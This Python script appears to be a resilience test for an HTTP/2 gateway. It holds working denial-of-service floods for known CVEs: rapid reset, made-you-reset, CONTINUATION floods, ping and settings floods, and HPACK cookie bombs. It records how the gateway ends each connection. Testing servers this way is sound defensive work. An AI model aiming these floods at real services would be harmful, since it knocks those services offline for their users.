"""Floods a gateway with frames that cost it work, on one connection after the other until so many rounds were sent.

Usage: h2_flood.py PORT SERVER_CA CERTIFICATE KEY KIND ROUNDS PATH

KIND is a name in `floods`. Prints one line of JSON: rounds sent, connections used, the errors by which they were ended (RFC 9113
section 7), how many ended without a word, the most rounds that one of them bore, and the statuses of the answers.
"""

import collections
import struct
import sys
import time

from h2_frames import *

port, authority, certificate, key, kind, rounds, path = sys.argv[1:]
door = Door(port, authority, certificate, key)
rounds = int(rounds)


def stream(number):
    return 2 * number + 1


# What opens a connection's flood, and one round of it.
open_request = request(1, path, "POST", ends=False)
small_field = section([("cookie", "a=b")])
# One entry of the dynamic table, and a byte for each time that it comes again.
bomb = b"\x40" + integer(7, 6) + b"cookie" + integer(7, 3800) + b"a" * 3800
pseudo = section([(":method", "GET"), (":scheme", "https"), (":authority", "localhost"), (":path", path)])

floods = {
    # CVE-2023-44487
    "rapid-reset": (b"", lambda n: request(stream(n), path) + reset(stream(n))),
    # CVE-2025-8671: the server is made to reset.
    "made-you-reset-window": (b"", lambda n: request(stream(n), path, "POST", False) + window_update(stream(n), 0)),
    "made-you-reset-overflow": (b"", lambda n: request(stream(n), path, "POST", False) + window_update(stream(n), 0x7FFFFFFF)),
    "made-you-reset-half-closed": (b"", lambda n: request(stream(n), path) + frame(DATA, 0, stream(n), b"more")),
    "made-you-reset-length": (
        b"",
        lambda n: request(stream(n), path, "POST", False, [("content-length", "1")]) + frame(DATA, END_STREAM, stream(n), b"more"),
    ),
    "made-you-reset-priority": (
        b"",
        lambda n: request(stream(n), path, "POST", False) + frame(PRIORITY, 0, stream(n), struct.pack(">IB", stream(n), 16)),
    ),
    # CERT VU#421644
    "continuation-empty": (frame(HEADERS, 0, 1, pseudo), lambda n: frame(CONTINUATION, 0, 1)),
    "continuation-fields": (frame(HEADERS, 0, 1, pseudo), lambda n: frame(CONTINUATION, 0, 1, section([(f"x-{n}", "y")]))),
    # CVE-2019-9512, -9515, -9518, and what is like them
    "ping": (b"", lambda n: frame(PING, payload=struct.pack(">Q", n))),
    "ping-ack": (b"", lambda n: frame(PING, ACK, payload=bytes(8))),
    "settings": (b"", lambda n: settings()),
    "settings-table": (b"", lambda n: settings((1, n % 2 * 4096))),
    "settings-window": (open_request, lambda n: settings((4, n % 2 * 65535))),
    "window-update": (b"", lambda n: window_update(0, 1)),
    "window-update-stream": (open_request, lambda n: window_update(1, 1)),
    "empty-data": (open_request, lambda n: frame(DATA, 0, 1)),
    "padding": (open_request, lambda n: frame(DATA, PADDED, 1, b"\x07" + bytes(7))),
    # CVE-2019-9516
    "empty-headers": (b"", lambda n: frame(HEADERS, END_HEADERS, stream(n))),
    "nameless-fields": (b"", lambda n: frame(HEADERS, END_HEADERS | END_STREAM, stream(n), b"\x00\x00\x00" * 200)),
    "priority": (b"", lambda n: frame(PRIORITY, 0, 1, struct.pack(">IB", 3, 16))),
    "unknown": (b"", lambda n: frame(0xB7, 0xFF, 1, b"?")),
    "goaway": (b"", lambda n: frame(GOAWAY, payload=bytes(8))),
    # CVE-2026-47774: the cookies of a request are many fields in HTTP/2, and one field in HTTP/1.1.
    "cookies": (b"", lambda n: frame(HEADERS, END_HEADERS | END_STREAM, stream(n), pseudo + small_field * 1200)),
    "cookie-bomb": (b"", lambda n: frame(HEADERS, END_HEADERS | END_STREAM, stream(n), pseudo + bomb + b"\xbe" * 8000)),
    "table-updates": (b"", lambda n: frame(HEADERS, END_HEADERS | END_STREAM, stream(n), b"\x20" * 4000 + pseudo)),
}

opening, round_ = floods[kind]
sent = connections = silent = most = 0
goaways = collections.Counter()
statuses = collections.Counter()
begun = time.monotonic()
while sent < rounds:
    client = Client(door)
    connections += 1
    client.send(PREFACE + settings() + frame(SETTINGS, ACK) + opening)
    number = 0
    while sent < rounds and client.is_open:
        many = 100 if len(round_(0)) < 1000 else 4
        client.send(b"".join(round_(number + n) for n in range(many)))
        number += many
        sent += many
        # What was sent counts when the gateway has come to it. Inside a field section nothing may be asked.
        if kind.startswith("continuation"):
            client.take(1)
        else:
            client.send(frame(PING, payload=struct.pack(">Q", number)))
            client.take(60, until=lambda parser: parser.last_pong == number or parser.goaway not in (None, 0))
        # An error is the end; a connection that only takes no more requests is flooded on.
        client.take(60 if client.parser.goaway else 0)
    most = max(most, number)
    statuses.update(client.parser.statuses.values())
    if client.parser.goaway is not None:
        goaways[client.parser.goaway] += 1
    elif not client.is_open:
        silent += 1
    client.close()
say(
    sent=sent, connections=connections, goaways={str(code): count for code, count in goaways.items()}, silent=silent, most=most,
    statuses={str(code): count for code, count in statuses.items()}, seconds=round(time.monotonic() - begun, 2))
